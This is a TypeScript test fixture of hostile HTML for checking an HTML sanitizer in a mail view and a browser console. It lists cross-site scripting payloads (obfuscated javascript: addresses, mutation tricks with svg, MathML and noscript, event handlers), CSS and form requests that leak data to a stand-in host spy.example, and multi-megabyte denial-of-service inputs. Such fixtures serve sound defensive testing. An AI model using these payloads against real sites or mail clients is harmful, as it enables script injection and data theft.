/**
 * HTML that wishes us ill, by what it tries; tests of the mail view and of the console in a browser go through the same list.
 *
 * The shapes are those that sanitizers and mail programs were broken with: text that is HTML only when it is read a second time, addresses
 * spelt so that a filter does not know them, styles that ask the network what they have seen.
 */

/** An address that must never be asked. */
export const spy = 'https://spy.example/';

export interface Hostile {
  readonly tries: string;
  readonly html: string;
  /** Words that must still be there. */
  readonly keeps?: string;
}

const run = 'alert(1)';

/** Every spelling in which browsers have read `javascript:`, or a filter has not. */
const scripts: readonly string[] = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  ` javascript:${run}`,
  `\tjavascript:${run}`,
  `java\tscript:${run}`,
  `java\nscript:${run}`,
  `java\r\nscript:${run}`,
  `java\0script:${run}`,
  `\x01javascript:${run}`,
  `&#106;avascript:${run}`,
  `&#x6A&#x61vascript:${run}`,
  `&#0000106avascript:${run}`,
  `java&Tab;script:${run}`,
  `java&NewLine;script&colon;${run}`,
  `javascript&#58;${run}`,
  `\u00a0javascript:${run}`,
  `javascript://%0a${run}`,
  `vbscript:msgbox(1)`,
  `livescript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload=${run}>`,
  `data:application/xhtml+xml,<x/>`,
  `blob:${spy}1`,
  `file:///etc/passwd`,
  `view-source:${spy}`,
  `feed:javascript:${run}`,
];

/** Styles, as the value of an attribute. */
const styles: readonly string[] = [
  `background:url(${spy})`,
  `background:URL("${spy}")`,
  `background:\\75rl(${spy})`,
  `background:u\\72l(${spy})`,
  `background:u/**/rl(${spy})`,
  `background-image:image-set("${spy}" 1x)`,
  `background-image:-webkit-image-set(url(${spy}) 1x)`,
  `background:image(${spy})`,
  `background:cross-fade(url(${spy}), red)`,
  `background:var(--x, url(${spy}))`,
  `--x:url(${spy});background:var(--x)`,
  `list-style:url(${spy})`,
  `list-style-image:url(${spy})`,
  `cursor:url(${spy}),auto`,
  `content:url(${spy})`,
  `border-image:url(${spy})`,
  `mask:url(${spy})`,
  `filter:url(${spy}#f)`,
  `shape-outside:url(${spy})`,
  `clip-path:url(${spy}#c)`,
  `src:url(${spy})`,
  `@import '${spy}'`,
  `width:expression(${run})`,
  `width:exp/**/ression(${run})`,
  `behavior:url(${spy})`,
  `-moz-binding:url(${spy})`,
  `color:red;}body{background:url(${spy})`,
  `color:red</style><img src=${spy}>`,
  `font-family:'x;background:url(${spy})'`,
  `font-family:"\\"};background:url(${spy})`,
  `position:fixed;top:0;left:0;width:100%;height:100%`,
  `position:absolute;z-index:99999`,
  `margin-left:-9999px`,
  `transform:scale(100)`,
  `animation:x 1s`,
  `display:grid`,
];

export const hostile: readonly Hostile[] = [
  // Scripts and their relatives
  { tries: 'a script', html: `a<script>${run}</script>b`, keeps: 'a' },
  { tries: 'a script from elsewhere', html: `<script src="${spy}x.js"></script>words`, keeps: 'words' },
  { tries: 'a script in capitals with a slash', html: `<SCRIPT/SRC="${spy}">x</SCRIPT >words`, keeps: 'words' },
  { tries: 'a script within a script', html: `<scr<script>ipt>${run}</scr</script>ipt>words`, keeps: 'words' },
  { tries: 'a script that is never closed', html: `words<script>${run}`, keeps: 'words' },
  { tries: 'a tag that is never closed', html: `words<img src=x onerror=${run} `, keeps: 'words' },
  { tries: 'a null byte within a tag', html: `<scr\0ipt>${run}</scr\0ipt><im\0g src=x onerror=${run}>words`, keeps: 'words' },
  { tries: 'a null byte within an attribute', html: `<img src=x on\0error=${run}>words`, keeps: 'words' },
  { tries: 'an event handler', html: `<img src=x onerror=${run}><body onload=${run}><p onmouseover="${run}">words</p>`, keeps: 'words' },
  { tries: 'an event handler behind a slash', html: `<img/src=x/onerror=${run}>words`, keeps: 'words' },
  { tries: 'an event handler behind a form feed', html: `<img src=x\fonerror=${run}>words`, keeps: 'words' },
  { tries: 'an event handler behind a broken quotation', html: `<img """><script>${run}</script>">words`, keeps: 'words' },
  { tries: 'an attribute with a backtick', html: `<img src=\`x\` onerror=\`${run}\`>words`, keeps: 'words' },
  {
    tries: 'new event handlers',
    html: `<p onpointerrawupdate=${run} onbeforetoggle=${run} ontransitionrun=${run}>words</p>`,
    keeps: 'words',
  },
  { tries: 'a popover', html: `<button popovertarget=x>b</button><div popover id=x onbeforetoggle=${run}>words</div>`, keeps: 'words' },
  { tries: 'a details that opens itself', html: `<details open ontoggle=${run}><summary>s</summary>words</details>`, keeps: 'words' },
  { tries: 'a shadow root', html: `<div><template shadowrootmode=open><img src=x onerror=${run}></template>words</div>`, keeps: 'words' },
  // Text that is HTML when it is read again
  { tries: 'svg with a style', html: `<svg><style><img src=x onerror=${run}></style></svg>words`, keeps: 'words' },
  { tries: 'svg with a title', html: `<svg><title><img src=x onerror=${run}></title></svg>words`, keeps: 'words' },
  {
    tries: 'svg with a foreign object',
    html: `<svg><foreignObject><p><img src=x onerror=${run}></p></foreignObject></svg>words`,
    keeps: 'words',
  },
  {
    tries: 'svg that animates an address',
    html: `<svg><a><animate attributeName=href values=javascript:${run} /><text>x</text></a></svg>words`,
    keeps: 'words',
  },
  {
    tries: 'svg that uses another one',
    html: `<svg><use href="data:image/svg+xml,<svg id=x onload=${run}>#x"/></svg>words`,
    keeps: 'words',
  },
  { tries: 'svg without an end', html: `words<svg><p><style><!--</style><a title="--><img src=x onerror=${run}>">`, keeps: 'words' },
  {
    tries: 'MathML with glyphs',
    html: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
    keeps: '',
  },
  {
    tries: 'MathML with an annotation',
    html: `<math><annotation-xml encoding="text/html"><img src=x onerror=${run}></annotation-xml></math>words`,
    keeps: 'words',
  },
  {
    tries: 'MathML with a link',
    html: `<math href="javascript:${run}">x</math><math><mi xlink:href="javascript:${run}">y</mi></math>words`,
    keeps: 'words',
  },
  {
    tries: 'noscript with an end in an attribute',
    html: `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>words`,
    keeps: 'words',
  },
  {
    tries: 'noembed, noframes, xmp and plaintext',
    html: `<noembed><img src=x onerror=${run}></noembed><noframes><p title="</noframes><img src=x onerror=${run}>">words<xmp></xmp><img src=x onerror=${run}></xmp><plaintext>`,
    keeps: '',
  },
  {
    tries: 'a textarea with its end in an attribute',
    html: `<textarea><p title="</textarea><img src=x onerror=${run}>"></textarea>words`,
    keeps: 'words',
  },
  {
    tries: 'a title with its end in an attribute',
    html: `<title><p title="</title><img src=x onerror=${run}>"></title>words`,
    keeps: 'words',
  },
  {
    tries: 'a template within a template',
    html: `<template><template><img src=x onerror=${run}></template></template>words`,
    keeps: 'words',
  },
  {
    tries: 'a select that is left early',
    html: `<select><option><style></option></select><img src=x onerror=${run}></style>words`,
    keeps: '',
  },
  {
    tries: 'a table that throws its content out',
    html: `<table><td><a><table><style><!--</style><img src=x onerror=${run}>--></table>words`,
    keeps: '',
  },
  {
    tries: 'a comment with two ends',
    html: `<!--><img src=x onerror=${run}>-->words<!--!><img src=x onerror=${run}>--!>words`,
    keeps: 'words',
  },
  { tries: 'a comment that is never closed', html: `words<!-- <img src=x onerror=${run}>`, keeps: 'words' },
  { tries: 'a conditional comment', html: `<!--[if gte mso 9]><img src=${spy}><![endif]--><![if !mso]>words<![endif]>`, keeps: 'words' },
  { tries: 'CDATA', html: `<![CDATA[<img src=x onerror=${run}>]]>words`, keeps: 'words' },
  { tries: 'a processing instruction', html: `<?xml version="1.0"?><?php <img src=x onerror=${run}> ?>words`, keeps: 'words' },
  { tries: 'entities that become tags', html: `&lt;img src=x onerror=${run}&gt; &amp;lt;script&amp;gt;`, keeps: '&lt;img src=x' },
  { tries: 'UTF-7', html: `+ADw-script+AD4-${run}+ADw-/script+AD4-words`, keeps: 'words' },
  { tries: 'half a character', html: `<p title="\ud800">words\udfff</p><img src=x onerror=${run}\ud800>`, keeps: 'words' },
  { tries: 'attributes that are names of the prototype', html: `<p __proto__="x" constructor=y toString=z>words</p>`, keeps: 'words' },
  {
    tries: 'an element that is a name of the prototype',
    html: `<constructor>a</constructor><__proto__>words</__proto__><tostring onclick=${run}>`,
    keeps: 'words',
  },
  // What asks another host
  {
    tries: 'a remote picture',
    html: `<img src="${spy}a.png"><img src=//spy.example/b.png><img src="ht\ntps://spy.example/c">words`,
    keeps: 'words',
  },
  {
    tries: 'a picture in sizes',
    html: `<img srcset="${spy}a 1x, ${spy}b 2x" sizes=100vw><picture><source srcset="${spy}c"><img></picture>words`,
    keeps: 'words',
  },
  {
    tries: 'backgrounds',
    html: `<body background="${spy}"><table background=${spy}><tr background=${spy}><td background="${spy}">words</table>`,
    keeps: 'words',
  },
  { tries: 'old pictures', html: `<img lowsrc=${spy} dynsrc=${spy}><image src=${spy}><input type=image src=${spy}>words`, keeps: 'words' },
  {
    tries: 'sounds and films',
    html: `<video src=${spy} poster=${spy}><source src=${spy}><track src=${spy}></video><audio src=${spy} autoplay></audio><bgsound src=${spy}>words`,
    keeps: 'words',
  },
  {
    tries: 'frames',
    html: `<iframe src=${spy}></iframe><iframe srcdoc="<script>${run}</script>"></iframe><frameset><frame src=${spy}></frameset>words`,
    keeps: '',
  },
  {
    tries: 'objects',
    html: `<object data=${spy}><param name=src value=${spy}></object><embed src=${spy}><applet code=${spy}></applet>words`,
    keeps: 'words',
  },
  {
    tries: 'a style sheet',
    html: `<link rel=stylesheet href=${spy}><link rel=preload as=image href=${spy}><link rel=dns-prefetch href=${spy}><link rel=preconnect href=${spy}>words`,
    keeps: 'words',
  },
  {
    tries: 'a refresh',
    html: `<meta http-equiv=refresh content="0;url=${spy}"><meta http-equiv="ref&#114;esh" content="0;url=javascript:${run}">words`,
    keeps: 'words',
  },
  { tries: 'a base', html: `<base href=${spy} target=_top><a href=x>words</a><img src=a.png>`, keeps: 'words' },
  { tries: 'a policy of its own', html: `<meta http-equiv=Content-Security-Policy content="default-src *">words`, keeps: 'words' },
  { tries: 'a manifest and a ping', html: `<html manifest=${spy}><a href=${spy} ping=${spy}>words</a>`, keeps: 'words' },
  {
    tries: 'a form',
    html: `<form action=${spy}><input name=password type=password autofocus><button formaction=${spy}>go</button></form><isindex action=${spy}>words`,
    keeps: 'words',
  },
  { tries: 'a map of links', html: `<img usemap=#m><map name=m><area href="javascript:${run}" shape=default></map>words`, keeps: 'words' },
  { tries: 'a portal', html: `<portal src=${spy}></portal><fencedframe src=${spy}></fencedframe>words`, keeps: 'words' },
  // Styles
  {
    tries: 'a style element that asks for what it sees',
    html: `<style>input[value^=a]{background:url(${spy}a)} @import "${spy}"; @font-face{font-family:x;src:url(${spy}f)}</style>words`,
    keeps: 'words',
  },
  { tries: 'a style element that ends early', html: `<style></style><img src=x onerror=${run}></style>words`, keeps: 'words' },
  {
    tries: 'a style element with a comment around its end',
    html: `<style><!--</style><script>${run}</script>--></style>words`,
    keeps: 'words',
  },
  ...styles.map(
    (style): Hostile => ({ tries: `the style ${style}`, html: `<p style="${style.replaceAll('"', '&quot;')}">words</p>`, keeps: 'words' }),
  ),
  { tries: 'a style without quotation marks', html: `<p style=background:url(${spy})>words</p>`, keeps: 'words' },
  // Addresses
  ...scripts.flatMap((address): readonly Hostile[] => [
    { tries: `a link to ${JSON.stringify(address)}`, html: `<a href="${address.replaceAll('"', '&quot;')}">words</a>`, keeps: 'words' },
    { tries: `a picture of ${JSON.stringify(address)}`, html: `<img src="${address.replaceAll('"', '&quot;')}">words`, keeps: 'words' },
  ]),
  {
    tries: 'a link into the frame around it',
    html: `<a href="${spy}" target=_top rel=opener>words</a><a href=# target=_parent>x</a>`,
    keeps: 'words',
  },
  { tries: 'a picture that is svg', html: `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">words`, keeps: 'words' },
  {
    tries: 'a picture that says it is one',
    html: `<img src="data:image/png;base64,${Buffer.from('<script>alert(1)</script>').toString('base64')}">words`,
    keeps: 'words',
  },
  // Names that others rely on
  {
    tries: 'names for what scripts look for',
    html: `<img name=body><form id=location><input name=attributes></form><p id=root class=mantine-x>words</p>`,
    keeps: 'words',
  },
  {
    tries: 'a document within the document',
    html: `</div></body></html><!doctype html><html><head><title>x</title></head><body onload=${run}>words`,
    keeps: 'words',
  },
];

/** What takes long, or much room: each some megabytes. */
export const greedy: readonly Hostile[] = [
  { tries: 'tables within tables', html: '<table><tr><td>'.repeat(350_000) },
  { tries: 'bold within bold', html: '<b>'.repeat(1_700_000) },
  { tries: 'ends that fit nothing', html: '<b>'.repeat(590) + '</i>'.repeat(1_200_000) },
  { tries: 'one element with a million attributes', html: `<p ${'a=1 '.repeat(1_200_000)}>` },
  { tries: 'a million attributes of other names', html: `<p ${Array.from({ length: 500_000 }, (_, index) => `a${index}=1`).join(' ')}>` },
  { tries: 'styles without end', html: `<p style="${'color:red;'.repeat(500_000)}">x</p>` },
  { tries: 'a comment in a style without end', html: `<p style="${'/*'.repeat(2_500_000)}">x</p>` },
  { tries: 'brackets', html: '<'.repeat(5_000_000) },
  { tries: 'ampersands', html: '&'.repeat(5_000_000) },
  { tries: 'entities', html: '&#x41'.repeat(1_000_000) },
  { tries: 'comments that are never closed', html: '<!--'.repeat(1_250_000) },
  { tries: 'CDATA that is never closed', html: '<![CDATA['.repeat(550_000) },
  { tries: 'links within links', html: '<a href=x>'.repeat(500_000) },
  { tries: 'paragraphs', html: '<p>'.repeat(1_600_000) },
  { tries: 'lists within items', html: '<ul><li>'.repeat(600_000) },
  { tries: 'svg within svg', html: '<svg>'.repeat(1_000_000) },
  { tries: 'openings and wrong ends in turns', html: ('<div>'.repeat(300) + '</p>'.repeat(300) + '</div>'.repeat(300)).repeat(1_200) },
  { tries: 'one word', html: 'x'.repeat(5_000_000) },
  { tries: 'pictures', html: '<img src="data:image/png;base64,AAAA">'.repeat(130_000) },
];
